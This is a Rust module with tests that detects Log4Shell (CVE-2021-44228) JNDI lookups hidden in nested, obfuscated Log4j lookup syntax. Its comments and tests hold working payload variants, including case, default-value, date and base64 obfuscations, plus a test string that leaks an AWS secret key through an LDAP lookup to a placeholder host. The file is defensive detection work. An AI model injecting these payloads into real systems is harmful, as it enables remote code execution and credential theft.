//! Log4Shell (CVE-2021-44228): find `${jndi:...}` the way Log4j would see it.
//!
//! Attackers hide the lookup name in nested lookups that Log4j resolves first:
//! `${${lower:j}ndi:...}`, `${${::-j}${::-n}di:...}`, `${${env:X:-j}ndi:...}`,
//! `${${date:'j'}ndi:...}`. A regex cannot follow that nesting, so this module
//! resolves the innermost lookup again and again, like Log4j's substitutor:
//!
//! - `${key:-default}` becomes `default` (the key is assumed unset),
//! - `${lower:x}` / `${upper:x}` become `x` in that case,
//! - `${date:'x'}` becomes `x`, `${base64:am5kaQ==}` becomes `jndi`,
//! - any other lookup (`${env:HOME}`, `${sys:user.name}`) becomes empty,
//!
//! until a lookup whose name is `jndi` appears. The work is bounded by
//! [`MAX_STEPS`] resolutions; each one shortens the text.

/// Upper bound on resolved lookups per value.
pub const MAX_STEPS: usize = 256;

/// The JNDI lookup hidden in `text`, as resolved (e.g. `${jndi:ldap://x/a}`).
pub fn find_jndi(text: &str) -> Option<String> {
    if !text.contains("${") {
        return None;
    }
    let mut cur = text.to_string();
    let mut from = 0;
    for _ in 0..MAX_STEPS {
        // The first `}` that closes a `${`: its lookup holds no other lookup.
        let Some(close) = cur[from..].find('}').map(|i| from + i) else {
            break;
        };
        let Some(open) = cur[..close].rfind("${") else {
            from = close + 1;
            continue;
        };
        let inner = &cur[open + 2..close];
        if is_jndi(inner) {
            return Some(cur[open..=close].to_string());
        }
        let value = resolve(inner);
        cur.replace_range(open..=close, &value);
        from = open;
    }
    // An unterminated `${jndi:` (or one left when the step budget ran out).
    let lower = cur.to_ascii_lowercase();
    lower.find("${jndi:").map(|i| {
        let end = (i + 80).min(cur.len());
        let end = (end..=cur.len())
            .find(|&e| cur.is_char_boundary(e))
            .unwrap_or(cur.len());
        cur[i..end].to_string()
    })
}

fn is_jndi(inner: &str) -> bool {
    inner
        .as_bytes()
        .get(..5)
        .is_some_and(|p| p.eq_ignore_ascii_case(b"jndi:"))
}

/// What Log4j would substitute for `${inner}` when nothing is set.
fn resolve(inner: &str) -> String {
    if let Some((_, default)) = inner.split_once(":-") {
        return default.to_string();
    }
    let (prefix, arg) = match inner.split_once(':') {
        Some((p, a)) => (p.trim().to_ascii_lowercase(), a),
        None => return String::new(),
    };
    match prefix.as_str() {
        "lower" => arg.to_lowercase(),
        "upper" => arg.to_uppercase(),
        // SimpleDateFormat copies text in single quotes literally.
        "date" => arg.split('\'').skip(1).step_by(2).collect(),
        "base64" => base64_decode(arg.trim())
            .map(|b| String::from_utf8_lossy(&b).into_owned())
            .unwrap_or_default(),
        _ => String::new(),
    }
}

/// Standard base64 (padding optional); `None` on any other character.
fn base64_decode(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0u32);
    for c in s.trim_end_matches('=').bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn hit(s: &str) -> String {
        find_jndi(s).unwrap_or_else(|| panic!("no JNDI found in {s:?}"))
    }

    #[test]
    fn plain_and_case_variants() {
        assert_eq!(
            hit("${jndi:ldap://x.example/a}"),
            "${jndi:ldap://x.example/a}"
        );
        assert_eq!(
            hit("Mozilla ${JNDI:rmi://1.2.3.4/x} end"),
            "${JNDI:rmi://1.2.3.4/x}"
        );
        assert_eq!(hit("${jNdI:dns://x}"), "${jNdI:dns://x}");
    }

    #[test]
    fn nested_obfuscations() {
        assert_eq!(hit("${${lower:j}ndi:ldap://x/a}"), "${jndi:ldap://x/a}");
        assert_eq!(
            hit("${${upper:j}${upper:n}di:ldap://x/a}"),
            "${JNdi:ldap://x/a}"
        );
        assert_eq!(
            hit("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}"),
            "${jndi:ldap://x/a}"
        );
        assert_eq!(
            hit("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}"),
            "${jndi:ldap://x/a}"
        );
        assert_eq!(
            hit("${${date:'j'}${date:'n'}di:ldap://x}"),
            "${jndi:ldap://x}"
        );
        assert_eq!(
            hit("${${lower:${lower:j}}ndi:ldap://x}"),
            "${jndi:ldap://x}"
        );
        assert_eq!(
            hit("${${sys:nope:-j}${k8s:x:-n}${::-d}i:dns://x}"),
            "${jndi:dns://x}"
        );
    }

    #[test]
    fn base64_lookup() {
        assert_eq!(base64_decode("am5kaQ==").unwrap(), b"jndi");
        assert_eq!(base64_decode("am5kaTps").unwrap(), b"jndi:l");
        assert_eq!(base64_decode("a*b"), None);
        assert_eq!(
            hit("${${base64:am5kaQ==}:ldap://x/a}"),
            "${jndi:ldap://x/a}"
        );
    }

    #[test]
    fn exfiltration_inside_the_url() {
        assert_eq!(
            hit("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.example/a}"),
            "${jndi:ldap://.x.example/a}"
        );
        assert_eq!(
            hit("${jndi:${lower:l}${lower:d}a${lower:p}://x/a}"),
            "${jndi:ldap://x/a}"
        );
    }

    #[test]
    fn unterminated_lookup_still_counts() {
        assert!(hit("${jndi:ldap://x/a").starts_with("${jndi:ldap://x"));
        assert!(hit("${${lower:j}ndi:ldap://x").starts_with("${jndi:"));
    }

    #[test]
    fn turkish_dotless_i_upper_trick() {
        // `ı`.to_uppercase() is `I`, as in Java.
        assert!(find_jndi("${${upper:j}nd${upper:ı}:ldap://x}").is_some());
    }

    #[test]
    fn benign_templates_pass() {
        for s in [
            "price is ${price}",
            "${HOME}/bin and ${env:PATH}",
            "} { ${ }",
            "{\"a\":\"${b}\"}",
            "${jnd}i:ldap",
            "jndi:ldap://x without lookup",
            "${lower:JNDI}",
            "",
        ] {
            assert_eq!(find_jndi(s), None, "{s}");
        }
    }

    #[test]
    fn multibyte_text_inside_lookups() {
        // Regression: the lookup name was sliced at byte 5, inside a character.
        assert_eq!(find_jndi("${j€€}"), None);
        assert_eq!(find_jndi("${€:-€}${jndi:€}"), Some("${jndi:€}".into()));
    }

    #[test]
    fn bounded_on_hostile_input() {
        let s = "${a}".repeat(100_000) + "${jndi:ldap://x}";
        // Either found or not, but it returns promptly (the budget runs out
        // long before the end; the final scan still sees the literal).
        assert!(find_jndi(&s).is_some());
        let s = "${".repeat(50_000);
        assert_eq!(find_jndi(&s), None);
    }
}
